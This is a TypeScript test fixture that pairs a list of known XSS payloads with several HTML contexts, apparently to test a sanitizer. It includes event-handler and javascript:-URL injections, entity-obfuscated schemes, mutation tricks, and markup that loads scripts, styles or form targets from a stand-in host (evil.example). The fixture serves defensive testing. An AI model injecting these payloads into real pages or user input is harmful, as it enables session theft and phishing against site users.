/** Known XSS vectors, and markup that loads resources or imitates the interface. */
const PAYLOADS = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<img src=x onerror=hit()>',
  '<img src="javascript:hit()">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><a xlink:href="javascript:hit()"><text>a</text></a></svg>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<math href="javascript:hit()">a</math>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<a href="javascript:hit()">a</a>',
  '<a href="JaVaScRiPt:hit()">a</a>',
  '<a href="java&#10;script:hit()">a</a>',
  '<a href="&#x6A;avascript:hit()">a</a>',
  '<a href=" &#14; javascript:hit()">a</a>',
  '<a href="data:text/html,<script>hit()</script>">a</a>',
  '<a href="vbscript:hit()">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/logout">a</a>',
  '<a href="https://ok.example/" onclick="hit()">a</a>',
  '<a href="https://ok.example/&quot;onmouseover=&quot;hit()">a</a>',
  '<p style="background:url(javascript:hit())">a</p>',
  '<p style="position:fixed;inset:0">a</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=a><button>a</button></form>',
  '<details open ontoggle=hit()>a</details>',
  '<video><source onerror=hit()></video>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<textarea><img src=x onerror=hit()></textarea>',
  '<p class="size-24 skip visually-hidden" id=main tabindex=0 data-island="ad">a</p>',
  '<span class="font-lato&quot; onmouseover=hit()">a</span>',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '&lt;img src=x onerror=hit()&gt;',
];

/** Contexts to inject a payload into. */
const CONTEXTS: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<p>antes ${payload} depois</p>`,
  (payload) => `<ul><li><strong>${payload}</strong></li></ul>`,
  (payload) => `<h1 class="align-center"><a href="https://ok.example/">${payload}</a></h1>`,
  (payload) => `<blockquote>${payload}<p title="`,
];

/** XSS attempts: each payload in each context. */
export const HOSTILE_DOCUMENTS = CONTEXTS.flatMap((place) => PAYLOADS.map(place));

/** The same cases, one page for each payload with all contexts. */
export const HOSTILE_PAGES = PAYLOADS.map((payload) => CONTEXTS.map((place) => place(payload)).join('\n'));
